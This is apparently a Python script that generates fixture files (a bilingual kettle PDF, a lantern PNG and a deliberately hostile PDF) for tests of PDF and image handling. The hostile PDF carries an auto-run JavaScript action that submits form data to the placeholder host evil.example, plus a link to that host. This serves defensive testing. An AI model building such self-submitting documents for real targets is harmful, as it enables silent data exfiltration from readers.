"""Builds the files in originals/ beside this script, which the tests of PDFs and pictures open.

Needs the Python packages typst and pillow and the fonts Noto Serif CJK TC and DejaVu Serif:

    python3 tests/web/originals.py
"""

import pathlib

import typst

TARGET = pathlib.Path(__file__).resolve().parent / "originals"

KETTLE = """
#set document(title: "The copper kettle", date: datetime(year: 2026, month: 3, day: 2))
#set page(width: 148mm, height: 210mm, margin: 18mm)
#set text(font: "DejaVu Serif", size: 10pt)
#set par(leading: 0.9em)
= The copper kettle

This kettle was bought in the spring, for the balcony.

The copper kettle boils at ninety degrees on the balcony.

It is to be descaled with vinegar twice a year, and never left without water.

#pagebreak()
#set text(font: "Noto Serif CJK TC", lang: "zh", region: "tw")
= 銅壺

這把銅壺是春天買的，放在陽台上用。

銅壺在陽台上煮到九十度就會鳴笛。

每年用醋除垢兩次，壺裡不可以沒有水。
"""

LANTERN = """
#set page(width: 120mm, height: 60mm, margin: 10mm, fill: rgb("#fbf4e4"))
#set text(font: "DejaVu Serif", size: 16pt)
The lantern burns rapeseed oil.

#v(4mm)
It hangs beside the garden gate.
"""


def hostile() -> bytes:
    """A PDF with a script, a link and a field; its fonts are not in it, so it is drawn with those of the page."""
    script = "app.alert('hostile'); this.submitForm('https://evil.example/');"
    hanzi = "".join(f"{ord(c):04X}" for c in "遠方的燈塔每晚都亮著")
    text = f"BT /F1 18 Tf 40 320 Td (The lighthouse is lit every night.) Tj /F2 18 Tf 0 -40 Td <{hanzi}> Tj "
    text += "/F3 18 Tf 0 -60 Td (456) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /AcroForm << /Fields [9 0 R] /DR << >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 400] /Contents 4 0 R /Annots [8 0 R 9 0 R] "
        "/AA << /O 7 0 R >> /Resources << /Font << /F1 5 0 R /F2 6 0 R /F3 12 0 R >> >> >>",
        f"<< /Length {len(text)} >>\nstream\n{text}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Font /Subtype /Type0 /BaseFont /MSung-Light /Encoding /UniCNS-UCS2-H /DescendantFonts [10 0 R] >>",
        f"<< /Type /Action /S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>",
        "<< /Type /Annot /Subtype /Link /Rect [30 300 390 350] /Border [0 0 1] "
        "/A << /Type /Action /S /URI /URI (https://evil.example/) >> >>",
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (typed) /Rect [40 200 200 230] /F 4 /P 3 0 R >>",
        "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /MSung-Light /DW 1000 "
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (CNS1) /Supplement 0 >> /FontDescriptor 11 0 R >>",
        "<< /Type /FontDescriptor /FontName /MSung-Light /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 "
        "/Ascent 880 /Descent -120 /CapHeight 700 /StemV 80 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = len(out)
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{end}\n%%EOF\n"
    return out + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}{trailer}".encode()


def main() -> None:
    TARGET.mkdir(exist_ok=True)
    typst.compile(KETTLE.encode(), output=TARGET / "kettle.pdf", timestamp=1772442000)
    typst.compile(LANTERN.encode(), output=TARGET / "lantern.png", format="png", ppi=144.0)
    (TARGET / "lighthouse.pdf").write_bytes(hostile())


if __name__ == "__main__":
    main()
